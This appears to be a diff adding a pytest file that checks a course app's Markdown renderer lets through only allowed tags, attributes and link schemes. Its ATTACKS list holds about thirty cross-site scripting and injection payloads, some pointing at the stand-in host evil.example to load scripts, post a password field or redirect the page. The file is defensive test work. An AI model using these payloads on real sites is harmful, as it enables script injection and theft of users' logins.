@@ -1,0 +1,121 @@
+"""Markdown of people comes out as plain words and links, whatever they tried to put in."""
+
+from html.parser import HTMLParser
+from urllib.parse import urlsplit
+
+import pytest
+from typing_extensions import override
+
+from courseapp.kernel.templatetags.prose import prose
+
+TAGS = frozenset(
+    [
+        "p",
+        "a",
+        "em",
+        "strong",
+        "code",
+        "pre",
+        "ul",
+        "ol",
+        "li",
+        "blockquote",
+        "h2",
+        "h3",
+        "h4",
+        "h5",
+        "h6",
+        "hr",
+        "br",
+        "table",
+        "thead",
+        "tbody",
+        "tr",
+        "th",
+        "td",
+    ]
+)
+ATTRIBUTES = frozenset({"href", "rel", "title", "start", "align"})
+SCHEMES = frozenset({"", "http", "https", "mailto"})
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
+    "<iframe src='javascript:alert(1)'></iframe>",
+    "<object data='data:text/html,<script>alert(1)</script>'></object>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<a href='javascript:alert(1)'>here</a>",
+    "<form action=//evil.example><input name=password></form>",
+    "<style>@import '//evil.example/x.css'</style>",
+    "<p style='position:fixed;inset:0'>over all</p>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href=//evil.example>",
+    "[here](javascript:alert(1))",
+    "[here](JaVaScRiPt:alert(1))",
+    "[here](&#106;avascript:alert(1))",
+    "[here](java\tscript:alert(1))",
+    "[here](data:text/html;base64,PHNjcmlwdD4=)",
+    "[here](vbscript:msgbox(1))",
+    "![pixel](https://evil.example/pixel.gif)",
+    "<javascript:alert(1)>",
+    '[here](https://example.org "x\\" onmouseover=alert(1) y=\\"")',
+    "`<script>alert(1)</script>`",
+    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
+    "[ref]: javascript:alert(1)\n\n[ref]",
+    "# <b onmouseover=alert(1)>heading</b>",
+    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
+    "<!--><script>alert(1)</script>-->",
+    "\x00<script\x00>alert(1)</script>",
+]
+
+
+class Elements(HTMLParser):
+    """The elements that a browser finds in a text."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+        self.feed(html)
+
+    @override
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attrs)))
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_no_attack_comes_through(attack: str) -> None:
+    elements = Elements(prose(f"Before.\n\n{attack}\n\nAfter.")).found
+    assert {tag for tag, _ in elements} <= TAGS
+    assert {name for _, attributes in elements for name in attributes} <= ATTRIBUTES
+    links = [attributes["href"] or "" for _, attributes in elements if "href" in attributes]
+    assert {urlsplit(link).scheme for link in links} <= SCHEMES
+
+
+def test_what_stands_around_an_attack_is_still_read():
+    shown = prose(f"Before.\n\n{ATTACKS[0]}\n\nAfter.")
+    assert "<p>Before.</p>" in shown
+    assert "<p>After.</p>" in shown
+
+
+def test_plain_words_come_through_as_written():
+    assert prose("*Why* does `x < y` hold?") == (
+        "<p><em>Why</em> does <code>x &lt; y</code> hold?</p>\n"
+    )
+
+
+def test_a_link_tells_the_other_site_nothing():
+    assert prose("[paper](https://example.org/p?a=1&b=2)") == (
+        '<p><a href="https://example.org/p?a=1&amp;b=2" rel="noopener noreferrer">paper</a></p>\n'
+    )
+
+
+def test_a_table_comes_through():
+    assert "<td>two</td>" in prose("| one |\n|-----|\n| two |")
+
+
+def test_the_pages_title_stays_the_only_one():
+    assert "<h1" not in prose("# Shouting")
+    assert "Shouting" in prose("# Shouting")
